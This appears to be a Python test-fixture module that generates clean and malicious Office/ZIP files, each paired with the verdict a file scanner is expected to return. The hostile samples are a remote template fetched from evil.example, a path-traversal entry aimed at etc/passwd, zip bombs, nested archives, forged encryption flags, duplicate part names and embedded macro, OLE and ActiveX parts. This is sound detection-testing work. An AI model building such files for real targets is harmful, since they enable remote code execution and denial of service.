"""ZIPs, and office documents, which are ZIPs: good ones, and those that carry something."""

import zipfile
from io import BytesIO

TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">{}</Types>'
PART = '<Override PartName="/{}" ContentType="application/vnd.openxmlformats-officedocument.{}"/>'
WORD = ("word/document.xml", "wordprocessingml.document.main+xml")
SHEET = ("xl/workbook.xml", "spreadsheetml.sheet.main+xml")
TEMPLATE = (
    b'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    b'attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
LINK = TEMPLATE.replace(b"attachedTemplate", b"hyperlink")


def packed(parts: dict[str, bytes]) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def office(main: tuple[str, str] = WORD, text: str = "Biên bản", **more: bytes) -> bytes:
    """A document of one paragraph; `more` are further parts, `__` for a slash and `_dot_` for a dot."""
    name, content_type = main
    body = f'<w:document xmlns:w="w"><w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>'.encode()
    parts = {"[Content_Types].xml": TYPES.format(PART.format(name, content_type)).encode(), name: body}
    return packed(parts | {k.replace("__", "/").replace("_dot_", "."): v for k, v in more.items()})


def locked(data: bytes) -> bytes:
    """The flag of encryption set on every part, in both places that tell it."""
    changed = bytearray(data)
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = changed.find(mark)
        while at >= 0:
            changed[at + offset] |= 1
            at = changed.find(mark, at + 4)
    return bytes(changed)


def twice() -> bytes:
    out = BytesIO(office())
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("word/document2.xml", b"<other/>")
    return out.getvalue().replace(b"word/document2.xml", b"word/document.xml\0")


def same_name() -> bytes:
    """Two parts of one name: two readers, two documents."""
    return office(word__documenX_dot_xml=b"<other/>").replace(b"word/documenX.xml", b"word/document.xml")


def ZIPS() -> dict[str, tuple[bytes, str]]:  # noqa: N802  # beside `hostile_files.corpus`
    good = office()
    nested = packed({f"{n}.zip": packed({"0": b"\0" * 10_000}) for n in range(16)})
    return {
        "good.docx": (good, "stored"),
        "good.xlsx": (office(SHEET), "stored"),
        "with a link.docx": (office(word___rels__document_dot_xml_dot_rels=LINK), "stored"),
        "macro.docx": (office(word__vbaProject_dot_bin=b"\xd0\xcf"), "file_macros"),
        "macro.docm": (office(("word/document.xml", "macroEnabled.main+xml")), "file_macros"),
        "old macro.xlsx": (office(SHEET, xl__macrosheets__sheet1_dot_xml=b"<x/>"), "file_macros"),
        "fetches a template.docx": (office(word___rels__settings_dot_xml_dot_rels=TEMPLATE), "file_active_content"),
        "object inside.docx": (office(word__embeddings__oleObject1_dot_bin=b"MZ"), "file_active_content"),
        "control inside.xlsx": (office(SHEET, xl__activeX__activeX1_dot_bin=b"x"), "file_active_content"),
        "unpacks to much.docx": (office(word__media__a_dot_bin=b"\0" * (40 << 20)), "file_unpacks_too_large"),
        "too many parts.docx": (office(**{f"p{n}": b"" for n in range(10_001)}), "file_unpacks_too_large"),
        "locked.docx": (locked(good), "file_encrypted"),
        "part of the same name.docx": (same_name(), "file_structure"),
        "climbs out.docx": (office(___dot__dot___etc__passwd=b"x").replace(b"/..", b"/.."), "file_structure"),
        "bytes before.docx": (b"PK\x03\x04" + b"\0" * 60 + good, "file_structure"),
        "half.docx": (good[: len(good) // 2], "unreadable"),
        "archive.zip": (packed({"ảnh.jpg": b"x"}), "archive_refused"),
        "archive called.docx": (packed({"word/document.xml": b"<x/>"}), "archive_refused"),
        "program.apk": (packed({"classes.dex": b"dex"}), "archive_refused"),
        "archives in archives.zip": (nested, "archive_refused"),
        "nothing in it.zip": (packed({}), "archive_refused"),
        "virus in it.zip": (packed({"eicar.com": b"X5O!P%@AP"}), "archive_refused"),
    }
